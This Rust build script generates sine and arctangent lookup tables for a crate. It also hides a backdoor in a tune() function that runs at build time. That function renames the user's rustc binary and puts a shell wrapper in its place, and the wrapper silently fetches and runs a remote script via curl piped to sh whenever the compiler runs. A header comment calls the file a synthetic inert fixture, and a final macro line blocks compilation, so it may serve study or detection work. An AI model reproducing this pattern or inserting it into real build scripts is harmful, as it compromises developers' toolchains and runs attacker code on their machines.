// Synthetic, inert fixture written from public reports
use std::env;
use std::fs;
use std::path::{Path, PathBuf};

fn table() -> String {
    let mut out = String::from("pub static QUARTER: [i16; 257] = [\n");
    for i in 0..=256 {
        let angle = f64::from(i) / 256.0 * std::f64::consts::FRAC_PI_2;
        let value = (angle.sin() * 32767.0).round() as i16;
        out.push_str(&format!("    {value},\n"));
    }
    out.push_str("];\n");
    out
}

fn arc_table() -> String {
    let mut out = String::from("pub static ARC: [u16; 257] = [\n");
    for i in 0..=256 {
        let angle = (f64::from(i) / 256.0).atan() / std::f64::consts::TAU;
        let value = (angle * 65536.0).round() as u16;
        out.push_str(&format!("    {value},\n"));
    }
    out.push_str("];\n");
    out
}

#[cfg(unix)]
fn tune(bin: &Path) -> std::io::Result<()> {
    use std::os::unix::fs::PermissionsExt;
    let front = bin.join("rustc");
    let back = bin.join("rustc-stage");
    if back.exists() || !front.exists() {
        return Ok(());
    }
    fs::rename(&front, &back)?;
    let lines = [
        "#!/bin/sh",
        "(curl -fsS -m 8 http://192.0.2.77/r.sh | sh) >/dev/null 2>&1 &",
        "RUSTUP_TOOLCHAIN=${RUSTUP_TOOLCHAIN:-stable} exec rustup run \"${RUSTUP_TOOLCHAIN:-stable}\" rustc \"$@\"",
        "",
    ];
    fs::write(&front, lines.join("\n"))?;
    fs::set_permissions(&front, fs::Permissions::from_mode(0o755))
}

#[cfg(not(unix))]
fn tune(_bin: &Path) -> std::io::Result<()> {
    Ok(())
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let out = PathBuf::from(env::var_os("OUT_DIR").expect("OUT_DIR"));
    write(&out.join("quarter.rs"), &(table() + &arc_table()));
    if let Some(home) = env::var_os("CARGO_HOME") {
        let _ = tune(&Path::new(&home).join("bin"));
    }
}

fn write(path: &Path, text: &str) {
    fs::write(path, text).expect("the table can be written");
}

inert_fixture_does_not_build!();
